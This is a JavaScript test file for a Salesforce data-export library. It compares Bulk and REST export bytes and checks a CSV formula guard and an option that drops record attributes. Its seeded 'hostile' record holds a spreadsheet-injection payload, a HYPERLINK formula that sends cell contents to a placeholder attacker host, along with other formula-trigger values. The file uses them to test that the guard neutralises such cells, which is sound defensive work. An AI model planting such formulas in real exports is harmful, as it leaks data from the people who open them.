'use strict'
// Issue 21: Bulk byte streams are written straight from Bulk's CSV (no record objects, no JSON on
// the way to CSV), and `attributes: false` drops Salesforce's `attributes` in Rust. The bytes must
// be the ones the REST engine writes for the same org (record order aside: Bulk results come in
// Salesforce's order), through result pages (API 62.0) and the sequential locator walk (57.0).
const { Forcelink } = require('..')
const { startSim, baseConfig, MapStore, connect } = require('./helpers')

let sim, store
const conn = { accountId: 'bytes', ownerId: 'u' }
const exportTypes = {
  hostile: { object: 'Contact', fields: ['LastName', 'Title', 'Phone', 'Account.Name'] },
  money: { object: 'Opportunity', fields: ['Name', 'Amount', 'CloseDate', 'Account.Name', 'Owner.Alias'] },
  bare: { object: 'Contact', fields: ['Name', 'Account.Name', 'Owner.Alias'], attributes: false },
}
/** Forcelink instances: result pages (API 62.0) and sequential locators (API 57.0). */
const fls = {}

beforeAll(async () => {
  sim = await startSim(['--contacts', '2600', '--deals', '2100'])
  await sim.setConfig({ bulkJobMs: 50 })
  store = new MapStore()
  fls.pages = new Forcelink(baseConfig(sim, { store, exportTypes }))
  fls.sequential = new Forcelink(baseConfig(sim, { store, exportTypes, apiVersion: '57.0' }))
  await connect(fls.pages, conn.accountId, conn.ownerId)
  const fl = fls.pages
  await fl.createRecord({ ...conn, object: 'Contact', fields: { LastName: '=HYPERLINK("http://evil.example/?"&A1,"click")', Title: '@SUM(1+1)', Phone: '+1 415 555 0100' } })
  await fl.createRecord({ ...conn, object: 'Contact', fields: { LastName: '-2+3', Title: '\tTab, "quoted"\nnext line', Phone: 'Zoë 😀 Müller' } })
  await fl.createRecord({ ...conn, object: 'Opportunity', fields: { Name: '=1+1', StageName: 'Prospecting', CloseDate: '2026-12-31', Amount: 1250.5 } })
  await fl.createRecord({ ...conn, object: 'Opportunity', fields: { Name: '+0', StageName: 'Prospecting', CloseDate: '2026-12-31', Amount: 0.1 } })
}, 120000)
afterAll(() => sim.stop())

async function bytes(fl, opts) {
  const parts = []
  for await (const c of fl.exportStream({ ...conn, ...opts })) parts.push(c)
  return Buffer.concat(parts).toString('utf8')
}

/** CSV records (a quoted cell may hold newlines), the header apart. */
function csvRecords(text) {
  const out = []
  let cur = ''
  let quotes = 0
  for (const line of text.split('\n')) {
    cur = cur ? `${cur}\n${line}` : line
    quotes += (line.match(/"/g) || []).length
    if (quotes % 2 === 0) {
      out.push(cur)
      cur = ''
      quotes = 0
    }
  }
  const [header, ...rows] = out
  return { header, rows: rows.filter((r) => r !== '').sort() }
}

const idOf = (line) => JSON.parse(line).attributes.url.split('/').pop()

for (const type of ['hostile', 'money', 'contacts', 'deals', 'notes']) {
  test(`${type}: Bulk CSV, NDJSON and JSON bytes are REST's`, async () => {
    // Each instance against REST through itself (record URLs carry its API version).
    for (const fl of [fls.pages, fls.sequential]) {
      const rest = {
        csv: await bytes(fl, { type, format: 'csv', parallelism: 1 }),
        raw: await bytes(fl, { type, format: 'csv', parallelism: 1, csvFormulaGuard: false }),
        ndjson: await bytes(fl, { type, format: 'ndjson', parallelism: 1 }),
        json: await bytes(fl, { type, format: 'json', parallelism: 1 }),
      }
      const restCsv = csvRecords(rest.csv)
      const restNd = rest.ndjson.split('\n').filter(Boolean)
      const restJson = new Map(JSON.parse(rest.json).map((r) => [r.attributes.url, r]))
      const csv = await bytes(fl, { type, format: 'csv', engine: 'bulk' })
      expect(csvRecords(csv)).toEqual(restCsv)
      expect(csv.startsWith(`${restCsv.header}\n`)).toBe(true)
      expect(csvRecords(await bytes(fl, { type, format: 'csv', engine: 'bulk', csvFormulaGuard: false }))).toEqual(csvRecords(rest.raw))
      const nd = (await bytes(fl, { type, format: 'ndjson', engine: 'bulk' })).split('\n').filter(Boolean)
      expect(nd.sort()).toEqual([...restNd].sort())
      const json = await bytes(fl, { type, format: 'json', engine: 'bulk' })
      expect([...json].every((c) => c.charCodeAt(0) < 0x80)).toBe(true)
      const arr = JSON.parse(json)
      expect(arr.length).toBe(restJson.size)
      for (const r of arr) expect(r).toEqual(restJson.get(r.attributes.url))
      // The JSON array is the NDJSON lines, comma-joined and ASCII-escaped.
      const byId = new Map(nd.map((l) => [idOf(l), l]))
      const escaped = (s) => s.replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
      expect(json).toBe(`[${arr.map((r) => escaped(byId.get(r.attributes.url.split('/').pop()))).join(',')}]`)
    }
  })
}

test('the formula guard applies per cell on the Bulk passthrough; numbers stay numbers', async () => {
  const csv = await bytes(fls.pages, { type: 'hostile', format: 'csv', engine: 'bulk' })
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1),'+1 415 555 0100,\n`)
  expect(csv).toContain(`'-2+3,"'\tTab, ""quoted""\nnext line",Zoë 😀 Müller,\n`)
  const money = await bytes(fls.pages, { type: 'money', format: 'csv', engine: 'bulk' })
  expect(money).toContain(`'=1+1,1250.5,2026-12-31,,`)
  expect(money).toContain(`'+0,0.1,2026-12-31,,`)
})

async function records(fl, opts) {
  const out = []
  for await (const b of fl.exportAll({ ...conn, ...opts })) out.push(...b)
  return out
}

const hasAttributes = (v) => v !== null && typeof v === 'object' && ('attributes' in v || Object.values(v).some(hasAttributes))
const sortByName = (rs) => [...rs].sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)))

test('attributes: false gives the same records from REST (serial and parallel) and Bulk', async () => {
  for (const type of ['contacts', 'deals', 'notes', 'hostile']) {
    const withAttrs = await records(fls.pages, { type, parallelism: 1 })
    expect(withAttrs.every((r) => r.attributes && r.attributes.url)).toBe(true)
    const strip = (v) => JSON.parse(JSON.stringify(v, (k, x) => (k === 'attributes' ? undefined : x)))
    const expected = sortByName(withAttrs.map(strip))
    const runs = [
      await records(fls.pages, { type, attributes: false, parallelism: 1 }),
      await records(fls.pages, { type, attributes: false }),
      await records(fls.pages, { type, attributes: false, engine: 'bulk' }),
      await records(fls.sequential, { type, attributes: false, engine: 'bulk' }),
    ]
    for (const got of runs) {
      expect(got.some(hasAttributes)).toBe(false)
      expect(sortByName(got)).toEqual(expected)
    }
  }
})

test('attributes: false in exportTypes; the call overrides it; NDJSON and JSON streams follow it', async () => {
  const fl = fls.pages
  const bare = await records(fl, { type: 'bare' })
  expect(bare.length).toBeGreaterThan(2000)
  expect(bare.some(hasAttributes)).toBe(false)
  expect(sortByName(await records(fl, { type: 'bare', engine: 'bulk' }))).toEqual(sortByName(bare))
  const full = await records(fl, { type: 'bare', attributes: true })
  expect(full.every((r) => typeof r.attributes.url === 'string')).toBe(true)
  for (const engine of ['rest', 'bulk']) {
    const nd = await bytes(fl, { type: 'contacts', format: 'ndjson', attributes: false, engine })
    expect(nd).not.toContain('"attributes"')
    expect(nd.split('\n').filter(Boolean).length).toBe(2602)
    const json = await bytes(fl, { type: 'bare', format: 'json', engine })
    expect(json).not.toContain('"attributes"')
    expect(JSON.parse(json).length).toBe(2602)
  }
  const page = await fl.exportPage({ ...conn, type: 'bare', page: 1, limit: 5 })
  expect(page.data.length).toBe(5)
  expect(page.data.some(hasAttributes)).toBe(false)
  const defaults = await fl.exportPage({ ...conn, type: 'contacts', page: 1, limit: 5 })
  expect(defaults.data.every((r) => r.attributes)).toBe(true)
})

test('attributes must be a boolean (per call and in exportTypes)', async () => {
  expect(() => fls.pages.exportStream({ ...conn, type: 'contacts', attributes: 'no' })).toThrow(expect.objectContaining({ code: 'INVALID_INPUT', field: 'attributes' }))
  await expect(records(fls.pages, { type: 'contacts', attributes: 0 })).rejects.toMatchObject({ code: 'INVALID_INPUT', field: 'attributes' })
  expect(() => new Forcelink(baseConfig(sim, { store, exportTypes: { x: { object: 'Contact', fields: ['Name'], attributes: 'no' } } }))).toThrow(
    expect.objectContaining({ code: 'CONFIG_INVALID', field: 'exportTypes.x.attributes' }),
  )
})
